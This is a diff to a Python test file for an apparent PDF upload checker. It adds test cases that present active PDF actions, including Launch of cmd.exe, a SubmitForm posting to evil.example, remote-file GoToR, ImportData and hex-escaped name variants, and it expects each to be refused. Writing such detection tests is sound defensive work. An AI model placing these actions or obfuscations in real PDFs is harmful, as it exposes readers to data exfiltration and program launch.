@@ -386,6 +386,17 @@ def test_open_action_alone_is_allowed():
         (b"<< /S /JavaScript /JS (app.alert(1)) >>", "This PDF contains JavaScript"),
         (b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>", "This PDF contains JavaScript"),
         (b"<< /S /Launch /F (cmd.exe) >>", "This PDF can start other programs"),
+        (b"<< /S /L#61unch /F (cmd.exe) >>", "This PDF can start other programs"),
+        (b"<< /S /GoToR /F (\\\\server\\share\\a.pdf) /D [0 /Fit] >>", "This PDF has links"),
+        (b"<< /S /G#6FT#6FR /F (other.pdf) /D [0 /Fit] >>", "This PDF has links"),
+        (b"<< /S /GoToE /T << /R /C /N (a) >> >>", "This PDF has links that open other files"),
+        (
+            b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>",
+            "This PDF has a form that sends what is typed in it to another place",
+        ),
+        (b"<< /S /Subm#69tForm /F (x) >>", "This PDF has a form that sends what is typed"),
+        (b"<< /S /ImportData /F (data.fdf) >>", "This PDF has a form that reads data"),
+        (b"<< /S /#49mport#44ata /F (data.fdf) >>", "This PDF has a form that reads data"),
         (b"<< /Type /EmbeddedFile /Length 0 >>", "This PDF has other files attached inside it"),
         (b"<< /RichMedia 5 0 R >>", "This PDF contains embedded media that can run code"),
         (b"<< /XFA 5 0 R >>", "This PDF contains an XFA form, which can run code"),
@@ -398,6 +409,28 @@ def test_active_pdf_content_is_refused(action, reason):
     assert caught.value.code is RejectionCode.ACTIVE_CONTENT
     assert caught.value.reason.startswith(reason)
     assert "Print it to a new PDF" in caught.value.reason
+
+
+def test_a_submit_form_action_hidden_in_an_object_stream_is_refused():
+    stream = samples.object_stream(b"<< /S /SubmitForm /F (https://evil.example/) >>")
+    assert pdf_code(samples.pdf_document(stream)) is RejectionCode.ACTIVE_CONTENT
+
+
+def test_a_real_pdf_with_a_form_field_and_a_web_link_is_accepted():
+    # Forms and links to web pages are ordinary; only actions reaching outside are refused.
+    from reportlab.pdfgen import canvas
+
+    out = io.BytesIO()
+    page = canvas.Canvas(out)
+    page.drawString(72, 720, "Units delivered")
+    page.acroForm.textfield(name="units", x=72, y=680, width=120, height=20)
+    page.linkURL("https://www.nhs.uk/", (72, 640, 200, 660))
+    page.showPage()
+    page.save()
+    data = out.getvalue()
+    assert b"/AcroForm" in data
+    assert b"/URI" in data
+    assert inspect_evidence(data, "form.pdf").type is EvidenceType.PDF
 
 
 def test_javascript_hidden_in_a_compressed_object_stream_is_refused():
